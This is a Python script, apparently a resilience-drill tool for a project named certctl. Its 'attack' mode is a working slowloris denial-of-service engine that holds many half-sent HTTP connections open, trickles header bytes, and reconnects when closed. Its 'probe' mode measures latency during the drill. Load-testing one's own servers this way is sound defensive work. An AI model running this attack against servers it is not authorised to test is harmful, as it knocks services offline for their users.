#!/usr/bin/env python3
"""Slowloris drill engine (python3 standard library only); run through scripts/drills/slowloris.

probe:  ordinary requests, one new connection each, paced; prints latencies as JSON.
attack: holds CONNECTIONS connections per target that send a request head a byte at
        a time and never finish it; reconnects when the server closes one; prints
        what the server did to them as JSON when its time is up.
"""
import argparse
import heapq
import json
import selectors
import socket
import sys
import time
import urllib.parse
import http.client


def probe(urls, seconds, interval):
    """Paced requests (new connection each) until `seconds` pass; latencies in ms."""
    parsed = [urllib.parse.urlsplit(u) for u in urls]
    latencies, times, errors = [], [], []
    began = time.monotonic()
    end = began + seconds
    turn = 0
    while time.monotonic() < end:
        url = parsed[turn % len(parsed)]
        turn += 1
        start = time.monotonic()
        try:
            connection = http.client.HTTPConnection(url.hostname, url.port, timeout=10)
            path = url.path + (("?" + url.query) if url.query else "")
            connection.request("GET", path, headers={"Connection": "close"})
            response = connection.getresponse()
            response.read()
            connection.close()
            if response.status != 200:
                errors.append(f"{url.geturl()[:80]}: HTTP {response.status}")
            elif response.getheader("Retry-After"):
                # OCSP tryLater: the per-IP rate limit, not an ordinary answer
                errors.append(f"{url.geturl()[:80]}: rate limited (tryLater)")
            else:
                latencies.append((time.monotonic() - start) * 1000)
                times.append(round(start - began, 3))
        except OSError as error:
            errors.append(f"{url.geturl()[:80]}: {error}")
        pause = interval - (time.monotonic() - start)
        if pause > 0:
            time.sleep(pause)
    return {"latencies_ms": latencies, "started_s": times, "errors": errors[:20], "error_count": len(errors)}


class Trickler:
    """One slowloris connection: a request line and headers, one byte per period, no end."""
    HEAD = b"GET /healthz HTTP/1.1\r\nHost: slowloris\r\nUser-Agent: certctl-slowloris-drill\r\n"

    def __init__(self, target, wave):
        self.target, self.wave = target, wave
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.setblocking(False)
        self.sock.connect_ex(target)
        self.opened = time.monotonic()
        self.pending = self.HEAD
        self.counter = 0
        self.received = b""
        self.closed = False

    def send_byte(self):
        """Sends the next byte of the endless head; a byte the socket refuses is sent next time."""
        if not self.pending:
            self.counter += 1
            self.pending = b"X-Slow-%d: a\r\n" % self.counter
        if self.sock.send(self.pending[:1]) == 1:
            self.pending = self.pending[1:]


def attack(targets, connections, seconds, period):
    """Keeps `connections` tricklers open per target for `seconds`; returns what happened.

    The first wave opens spread over one period and each connection sends on its own
    schedule, as many independent slow clients would (not one burst a second)."""
    selector = selectors.DefaultSelector()
    began = time.monotonic()
    stop = began + seconds
    report = {"opened": 0, "closed_by_server": 0, "answered_408": 0, "refused_at_once": 0,
              "first_wave": connections * len(targets), "first_wave_closed": 0,
              "first_wave_ages_s": [], "still_open": 0, "connect_errors": 0}
    sends = []  # heap of (when, sequence, trickler)
    sequence = 0

    def open_one(target, wave):
        nonlocal sequence
        try:
            trickler = Trickler(target, wave)
        except OSError:
            report["connect_errors"] += 1
            return
        selector.register(trickler.sock, selectors.EVENT_READ, trickler)
        report["opened"] += 1
        sequence += 1
        heapq.heappush(sends, (trickler.opened + 0.05, sequence, trickler))

    first_wave = [target for _ in range(connections) for target in targets]
    opening_interval = period / len(first_wave)
    while time.monotonic() < stop:
        now = time.monotonic()
        while first_wave and began + opening_interval * (report["first_wave"] - len(first_wave)) <= now:
            open_one(first_wave.pop(), 1)
        while sends and sends[0][0] <= now:
            when, _, trickler = heapq.heappop(sends)
            if trickler.closed:
                continue
            try:
                trickler.send_byte()
            except OSError:
                pass  # still connecting, or closed: the read side notices a close
            sequence += 1
            heapq.heappush(sends, (when + period, sequence, trickler))
        wake = min([sends[0][0]] if sends else [now + 0.05]) - time.monotonic()
        for key, _ in selector.select(timeout=max(0.0, min(wake, 0.01 if first_wave else 0.05))):
            trickler = key.data
            try:
                data = trickler.sock.recv(4096)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                data = b""
            if data:
                trickler.received += data  # a 408; the close follows
                continue
            age = time.monotonic() - trickler.opened
            selector.unregister(trickler.sock)
            trickler.sock.close()
            trickler.closed = True
            report["closed_by_server"] += 1
            if trickler.received.startswith(b"HTTP/1.1 408"):
                report["answered_408"] += 1
            if age < 0.5 and not trickler.received:
                report["refused_at_once"] += 1
            if trickler.wave == 1:
                report["first_wave_closed"] += 1
                report["first_wave_ages_s"].append(round(age, 3))
            open_one(trickler.target, 2)  # a slowloris comes back
    report["still_open"] = len(selector.get_map())
    for key in list(selector.get_map().values()):
        key.data.sock.close()
    return report


def main():
    parser = argparse.ArgumentParser()
    sub = parser.add_subparsers(dest="mode", required=True)
    p = sub.add_parser("probe")
    p.add_argument("--url", action="append", required=True)
    p.add_argument("--seconds", type=float, required=True)
    p.add_argument("--interval-ms", type=float, default=5)
    a = sub.add_parser("attack")
    a.add_argument("--target", action="append", required=True, help="host:port")
    a.add_argument("--connections", type=int, required=True, help="per target")
    a.add_argument("--seconds", type=float, required=True)
    a.add_argument("--period-ms", type=float, default=1000)
    args = parser.parse_args()
    if args.mode == "probe":
        result = probe(args.url, args.seconds, args.interval_ms / 1000)
    else:
        targets = [(t.rsplit(":", 1)[0], int(t.rsplit(":", 1)[1])) for t in args.target]
        result = attack(targets, args.connections, args.seconds, args.period_ms / 1000)
    json.dump(result, sys.stdout)


if __name__ == "__main__":
    main()
